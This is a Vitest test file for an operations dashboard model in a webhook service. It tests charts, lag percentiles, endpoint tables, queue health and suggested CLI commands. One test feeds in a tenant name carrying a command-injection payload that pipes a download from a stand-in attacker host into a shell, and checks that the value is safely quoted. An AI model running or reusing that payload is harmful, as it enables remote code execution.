import { describe, expect, it } from 'vitest';
import { additionsOf, reportOf, windowOf, type Attempt, type BucketRow, type Increment } from '../../functions/core/stats.ts';
import type { HealthReport } from '../../functions/core/health.ts';
import {
  attemptColumns,
  attemptRow,
  countsChart,
  endpointColumns,
  endpointRows,
  forbiddenNotice,
  healthView,
  knownProviders,
  lagChart,
  lagRows,
  lagText,
  operatorCommands,
  opsQueryOf,
  recentPath,
  refusalRows,
  statsPath,
} from '../../inbox/ops-model.js';

/** The operations page's pure model (inbox/ops-model.js), fed reports built by the API's own reportOf. */

const now = new Date('2026-12-03T14:25:00.000Z');

/** A stored hour bucket, its counters as the pipeline's stages add them. */
const aBucket = (increment: Omit<Increment, 'at'> & { hour: string }): BucketRow => ({
  tenantId: increment.tenantId,
  provider: increment.provider,
  endpointId: increment.endpointId,
  hour: increment.hour,
  values: additionsOf([{ ...increment, at: `${increment.hour}:00:00.000Z` }]),
});

const rows = [
  aBucket({ tenantId: 'acme', provider: 'twilio', endpointId: 'ep_sms', hour: '2026-12-03T12', counts: { received: 4, acked: 3, processed: 3 }, refused: { bad_signature: 1 } }),
  aBucket({
    tenantId: 'acme',
    provider: 'twilio',
    endpointId: 'ep_sms',
    hour: '2026-12-03T14',
    counts: { received: 2, acked: 2, processed: 1, quarantined: 1 },
    lags: { receivedToStored: [40, 45, 900] },
  }),
  aBucket({ tenantId: 'acme', provider: 'meta', endpointId: 'ep_wa', hour: '2026-12-03T14', counts: { received: 3, acked: 1, sent: 2 }, refused: { bad_signature: 1, too_large: 1 } }),
];
const report = reportOf(rows, { tenantId: 'acme', provider: null }, windowOf(now, 6));

describe('the per-hour chart', () => {
  it('has one series per counter, an hour each, oldest first, zeros included', () => {
    const chart = countsChart(report, (hour) => hour.slice(11, 16));

    expect(chart.labels).toEqual(['09:00', '10:00', '11:00', '12:00', '13:00', '14:00']);
    expect(chart.datasets).toEqual([
      { label: 'received', data: [0, 0, 0, 4, 0, 5] },
      { label: 'acked', data: [0, 0, 0, 3, 0, 3] },
      { label: 'refused', data: [0, 0, 0, 1, 0, 2] },
      { label: 'processed', data: [0, 0, 0, 3, 0, 1] },
      { label: 'quarantined', data: [0, 0, 0, 0, 0, 1] },
    ]);
  });
});

describe('lags', () => {
  it("gives each hop's p50 and p99 as an upper bound, and a dash where nothing was measured", () => {
    expect(lagRows(report.totals.lags)).toEqual([
      { name: 'providerToReceived', label: 'provider → received', count: 0, p50: '–', p99: '–' },
      { name: 'receivedToStored', label: 'received → stored', count: 3, p50: '≤ 45 ms', p99: '≤ 1.0 s' },
      { name: 'storedToDelivered', label: 'stored → delivered', count: 0, p50: '–', p99: '–' },
    ]);
    expect(lagChart(report.totals.lags)).toEqual({
      labels: ['provider → received', 'received → stored', 'stored → delivered'],
      datasets: [
        { label: 'p50 (ms)', data: [null, 45, null] },
        { label: 'p99 (ms)', data: [null, 1024, null] },
      ],
    });
  });

  it('writes seconds and minutes past a second', () => {
    expect([lagText(999), lagText(1_500), lagText(90_000), lagText(null)]).toEqual(['≤ 999 ms', '≤ 1.5 s', '≤ 1.5 min', '–']);
  });
});

describe('tables', () => {
  it('lists endpoints busiest first, with no tenant column in a tenant view', () => {
    expect(endpointColumns(report)).toEqual(['endpoint', 'provider', 'received', 'acked', 'refused', 'processed', 'quarantined', 'failed', 'sent', 'send failed']);
    expect(endpointRows(report)).toEqual([
      ['ep_sms', 'twilio', '6', '5', '1', '4', '1', '0', '0', '0'],
      ['ep_wa', 'meta', '3', '1', '2', '0', '0', '0', '2', '0'],
    ]);
  });

  it("names each endpoint's tenant in an admin's stack-wide view", () => {
    const stackWide = reportOf(rows, { tenantId: null, provider: 'meta' }, windowOf(now, 6));

    expect(endpointColumns(stackWide)[0]).toBe('tenant');
    expect(endpointRows(stackWide)).toEqual([['acme', 'ep_wa', 'meta', '3', '1', '2', '0', '0', '0', '2', '0']]);
  });

  it('lists refusals by reason, most first', () => {
    expect(refusalRows(report)).toEqual([
      ['bad_signature', '2'],
      ['too_large', '1'],
    ]);
  });

  it('offers every provider seen so far in the provider filter, the chosen one included', () => {
    const filtered = reportOf(rows, { tenantId: 'acme', provider: 'meta' }, windowOf(now, 6));

    expect(knownProviders([], report)).toEqual(['meta', 'twilio']);
    expect(knownProviders(['twilio'], filtered)).toEqual(['meta', 'twilio']);
  });
});

describe('recent attempts', () => {
  const attempt: Attempt = {
    at: '2026-12-03T14:20:00.000Z',
    requestId: 'req_1',
    tenantId: 'acme',
    endpointId: 'ep_sms',
    provider: 'twilio',
    outcome: 'refused',
    reason: 'bad_signature',
    statusCode: 403,
    bytes: 312,
    latencyMs: 4,
  };

  it.each(['refused', 'quarantined', 'failed'] as const)('marks a %s attempt as a problem, in its text too', (outcome) => {
    const row = attemptRow({ ...attempt, outcome }, () => 'at');

    expect(row.problem).toBe(true);
    expect(row.cells).toEqual(['at', `⚠ ${outcome}`, 'ep_sms', 'twilio', '403', 'bad_signature', '312', '4 ms', '']);
  });

  it.each(['acked', 'stored'] as const)('shows a %s attempt plainly', (outcome) => {
    const row = attemptRow({ ...attempt, outcome, statusCode: 200, storedLagMs: 52 }, () => 'at');
    const { reason: _none, ...withoutReason } = attempt;
    const plain = attemptRow({ ...withoutReason, outcome, statusCode: 200 }, () => 'at');

    expect(row.problem).toBe(false);
    expect(row.cells[1]).toBe(outcome);
    expect(row.cells[8]).toBe('52 ms');
    expect(plain.cells[5]).toBe('');
  });

  it("names each attempt's tenant in an admin's stack-wide view", () => {
    expect(attemptColumns(true).slice(0, 2)).toEqual(['tenant', 'received at']);
    expect(attemptColumns(false)[0]).toBe('received at');
    expect(attemptRow(attempt, () => 'at', true).cells.slice(0, 3)).toEqual(['acme', 'at', '⚠ refused']);
  });
});

describe('queues', () => {
  it('sums each queue, and keeps the reasons the health check gives', () => {
    const health: HealthReport = {
      status: 'degraded',
      reasons: ['2 requests in the DLQ: `switchboard dlq list` shows why each failed, `switchboard dlq redrive` retries them'],
      checkedAt: '2026-12-03T14:25:00.000Z',
      ingestQueue: { visible: 3, inFlight: 1, delayed: 0, oldestMessageAgeSeconds: 12 },
      deadLetterQueue: { visible: 2, inFlight: 0, delayed: 0 },
    };

    expect(healthView(health)).toEqual({
      status: 'degraded',
      ingest: '4 (3 waiting, 1 in flight, 0 delayed), oldest 12 s',
      deadLetters: '2',
      reasons: health.reasons,
      checkedAt: health.checkedAt,
    });
    expect(healthView({ ...health, ingestQueue: { ...health.ingestQueue, oldestMessageAgeSeconds: null } }).ingest).toBe('4 (3 waiting, 1 in flight, 0 delayed)');
  });

  it("shows the CLI commands, the quarantine's for the tenant viewed", () => {
    expect(operatorCommands('acme')).toEqual({
      quarantine: ['npx switchboard quarantine list --tenant acme', 'npx switchboard quarantine replay <id>'],
      deadLetters: ['npx switchboard dlq list', 'npx switchboard dlq redrive'],
    });
    expect(operatorCommands(undefined).quarantine[0]).toBe('npx switchboard quarantine list');
  });

  it("quotes a tenant from the page's URL as one shell word, so a pasted command runs nothing else", () => {
    expect(operatorCommands("x'; curl https://evil.example/p | sh; #").quarantine[0]).toBe(
      `npx switchboard quarantine list --tenant 'x'\\''; curl https://evil.example/p | sh; #'`,
    );
    expect(operatorCommands('acme.eu-1_b').quarantine[0]).toBe('npx switchboard quarantine list --tenant acme.eu-1_b');
  });
});

describe('requests', () => {
  it('asks for the window, the provider and the tenant chosen, encoded', () => {
    expect(statsPath('https://api.example/prod', { hours: 168 })).toBe('https://api.example/prod/stats?hours=168');
    expect(statsPath('http://127.0.0.1:3000', { hours: 6, provider: 'meta', tenant: 'a&b' })).toBe('http://127.0.0.1:3000/stats?hours=6&provider=meta&tenant=a%26b');
    expect(recentPath('http://127.0.0.1:3000', {})).toBe('http://127.0.0.1:3000/webhooks/recent?limit=50');
    expect(recentPath('http://127.0.0.1:3000', { outcome: 'refused', tenant: 'acme' })).toBe('http://127.0.0.1:3000/webhooks/recent?limit=50&outcome=refused&tenant=acme');
  });

  it("reads tenant= from the page's URL, for an admin token", () => {
    expect(opsQueryOf('?token=t&tenant=acme')).toEqual({ tenant: 'acme' });
    expect(opsQueryOf('?token=t&tenant=')).toEqual({ tenant: undefined });
  });

  it("explains a 403 in the API's words, and how to see the token's own tenant", () => {
    expect(forbiddenNotice('403: not your tenant', 'other')).toBe("The API refused these figures (403: not your tenant). Open this page without tenant= for the token's own tenant's.");
    expect(forbiddenNotice('403: forbidden', undefined)).toBe('The API refused these figures (403: forbidden).');
  });
});
